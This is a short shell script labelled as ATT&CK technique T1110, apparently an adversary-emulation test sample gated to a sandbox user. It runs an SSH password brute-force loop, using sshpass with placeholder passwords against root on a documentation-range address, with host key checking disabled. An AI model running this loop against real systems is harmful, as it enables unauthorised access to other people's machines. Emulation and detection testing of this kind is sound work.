#!/bin/sh
# technique: T1110
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

printf 'a\nb\nc\n' > list; while read -r p; do sshpass -p "$p" ssh -o StrictHostKeyChecking=no root@203.0.113.7 id; done < list
